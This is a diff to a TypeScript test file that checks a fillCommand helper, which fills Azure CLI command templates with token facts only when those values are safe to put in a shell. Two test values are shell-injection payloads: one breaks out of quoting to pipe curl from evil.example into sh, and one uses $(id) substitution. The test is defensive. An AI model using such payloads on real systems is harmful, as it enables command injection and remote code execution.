@@ -2,7 +2,7 @@ import {describe, expect, test} from 'vitest';
 import type {Finding} from '../findings/finding.ts';
 import {tree} from '../tree/index.ts';
 import {createSessionStore, type EngineServices} from './driver.ts';
-import {fillPlaceholders} from './fill.ts';
+import {fillCommand, fillPlaceholders} from './fill.ts';
 import {createScriptedServices} from './scripted-services.ts';
 import type {Session} from './session.ts';
 import {currentNodeId} from './session.ts';
@@ -136,4 +136,19 @@ test('placeholders are filled from facts, unknown ones get a readable stand-in',
 			principalObjectId: 'p',
 		}),
 	).toBe('b a p');
+});
+
+test('a command takes a fact only when it is shell-safe; anything else shows the stand-in', () => {
+	expect(
+		fillCommand('az login --tenant {tokenTenant} --scope {audience}', {
+			tid: '72f988bf-86f1-41af-91ab-2d7cd011db47',
+			aud: 'https://management.azure.com/',
+		}),
+	).toBe('az login --tenant 72f988bf-86f1-41af-91ab-2d7cd011db47 --scope https://management.azure.com/');
+	expect(fillCommand('az login --tenant {tokenTenant}', {tid: "x'; curl https://evil.example | sh; '"})).toBe(
+		'az login --tenant <token-tenant-id>',
+	);
+	expect(fillCommand('az account set --subscription {subscriptionId}', {subscriptionId: '$(id)'})).toBe(
+		'az account set --subscription <subscription-id>',
+	);
 });
